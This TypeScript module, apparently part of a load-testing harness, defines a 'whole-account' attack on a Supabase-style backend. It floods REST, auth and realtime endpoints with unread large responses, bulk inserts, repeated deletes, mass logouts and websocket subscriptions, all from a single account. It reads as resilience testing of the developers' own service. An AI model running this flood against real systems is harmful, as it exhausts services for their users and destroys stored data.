import { connect } from "node:net";
import { WebSocket } from "ws";
import { type Attack, type Attacker, repeatForever } from "./attack.ts";

const LARGE_QUERY = "/rest/v1/category_cycles?select=*,family_members(*),decision_categories(name)&limit=900";
const REPEATED_COLUMNS = Array.from({ length: 28 }, (_, at) => `c${at}:id`).join();

/** Does all that one account can do at once. */
export const wholeAccount: Attack = {
	name: "whole-account",
	families: [{ members: 1000, turns: 10_000 }],
	start([attacker]) {
		if (attacker === undefined) return;
		const { request, group, category, member } = attacker;
		const turns = Array.from({ length: 20 }, () => ({
			family_group_id: group,
			category_id: category,
			member_id: member,
		}));
		// The largest responses, repeated columns, and responses that are never read.
		for (let reader = 0; reader < 9; reader++) openUnreadConnection(attacker);
		for (let reader = 0; reader < 10; reader++) void repeatForever(() => request(LARGE_QUERY));
		void repeatForever(() => request(`/rest/v1/category_cycles?select=${REPEATED_COLUMNS}`));
		// Forty inserts at once, again and again.
		for (let writer = 0; writer < 40; writer++)
			void repeatForever(() =>
				request("/rest/v1/category_cycles?select=id", { method: "POST", body: JSON.stringify(turns) }),
			);
		// Logouts that wait for each other's lock, and the account read again and again.
		for (let client = 0; client < 40; client++)
			void repeatForever(() => request("/auth/v1/logout?scope=others", { method: "POST" }));
		for (let client = 0; client < 40; client++) void repeatForever(() => request("/auth/v1/user"));
		// Changes of thousands of rows to which many sockets subscribe.
		for (let socket = 0; socket < 20; socket++) subscribeToChanges(attacker);
		void repeatForever(() => request(`/rest/v1/category_cycles?category_id=eq.${category}`, { method: "DELETE" }));
	},
};

/** Requests large responses and never reads them. */
function openUnreadConnection(attacker: Attacker): void {
	const { hostname, port } = new URL(attacker.url);
	const socket = connect(Number(port), hostname).on("error", () => {});
	const head = Object.entries(attacker.headers).map(([name, value]) => `${name}: ${value}\r\n`);
	socket.pause().write(`GET ${LARGE_QUERY} HTTP/1.1\r\nHost: ${hostname}\r\n${head.join("")}\r\n`.repeat(20));
	const timeout = setTimeout(() => socket.destroy(), 5000);
	socket.once("close", () => {
		clearTimeout(timeout);
		attacker.count("unread");
		setTimeout(() => openUnreadConnection(attacker), 50);
	});
}

function subscribeToChanges(attacker: Attacker): void {
	const { url, apiKey, token, count } = attacker;
	const socket = new WebSocket(`${url.replace("http", "ws")}/realtime/v1/websocket?apikey=${apiKey}&vsn=1.0.0`);
	const config = { postgres_changes: [{ event: "*", schema: "public" }] };
	socket.on("open", () => {
		for (let channel = 0; channel < 10; channel++) {
			const payload = { config, access_token: token };
			socket.send(
				JSON.stringify({ topic: `realtime:${channel}`, event: "phx_join", payload, ref: "1", join_ref: "1" }),
			);
		}
	});
	socket.on("message", () => count("socket message"));
	socket.on("error", () => {});
	socket.on("close", (code) => {
		count(`socket ${code}`);
		setTimeout(() => subscribeToChanges(attacker), 20);
	});
}
